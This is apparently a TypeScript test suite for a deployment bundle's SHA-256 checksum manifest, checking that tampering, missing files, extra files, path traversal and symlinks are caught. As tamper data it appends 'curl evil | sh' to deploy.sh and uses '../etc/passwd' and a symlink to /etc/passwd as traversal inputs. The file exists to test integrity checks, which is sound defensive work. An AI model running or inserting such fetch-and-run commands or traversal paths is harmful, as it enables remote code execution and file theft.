import { expect } from "chai";
import { spawnSync } from "child_process";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import {
  buildManifest,
  listFiles,
  manifestName,
  parseManifest,
  verifyManifest,
} from "../../scripts/bundle/site/checksums";

describe("bundle: checksum manifest", () => {
  let dir: string;
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), "keel-sums-"));
    fs.mkdirSync(path.join(dir, "project", "bin"), { recursive: true });
    fs.writeFileSync(path.join(dir, "deploy.sh"), "#!/bin/sh\necho deploy\n");
    fs.writeFileSync(path.join(dir, "project", "bin", "index.js"), "module.exports = {};\n");
    fs.writeFileSync(path.join(dir, "a file with spaces.txt"), "x");
    fs.writeFileSync(path.join(dir, manifestName), buildManifest(dir));
  });
  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));

  it("lists every file, sorted, in the format sha256sum -c checks", () => {
    const text = fs.readFileSync(path.join(dir, manifestName), "utf8");
    expect(parseManifest(text).map((e) => e.path)).to.deep.equal([
      "a file with spaces.txt",
      "deploy.sh",
      "project/bin/index.js",
    ]);
    const r = spawnSync("sha256sum", ["--strict", "-c", manifestName], { cwd: dir, encoding: "utf8" });
    expect(r.status, r.stdout + r.stderr).to.equal(0);
  });

  it("verifies an intact bundle", () => {
    expect(verifyManifest(dir)).to.deep.include({ ok: true, checked: 3 });
  });

  it("finds a changed, a missing and an added file", () => {
    fs.appendFileSync(path.join(dir, "deploy.sh"), "curl evil | sh\n");
    fs.rmSync(path.join(dir, "project", "bin", "index.js"));
    fs.writeFileSync(path.join(dir, "project", "extra.js"), "");
    expect(verifyManifest(dir)).to.deep.equal({
      ok: false,
      checked: 3,
      mismatched: ["deploy.sh"],
      missing: ["project/bin/index.js"],
      unlisted: ["project/extra.js"],
    });
  });

  it("refuses manifests that are malformed, list a path twice or point outside the bundle", () => {
    const h = "a".repeat(64);
    expect(() => parseManifest("not a manifest\n")).to.throw(/line 1/);
    expect(() => parseManifest(`${h}  x\n${h}  x\n`)).to.throw(/listed twice/);
    expect(() => parseManifest(`${h}  ../etc/passwd\n`)).to.throw(/leaves the bundle/);
    expect(() => parseManifest(`${h}  /etc/passwd\n`)).to.throw(/leaves the bundle/);
  });

  it("refuses symbolic links (a bundle is carried as plain files)", () => {
    fs.symlinkSync("/etc/passwd", path.join(dir, "link"));
    expect(() => listFiles(dir)).to.throw(/link: symbolic links are not allowed/);
  });
});
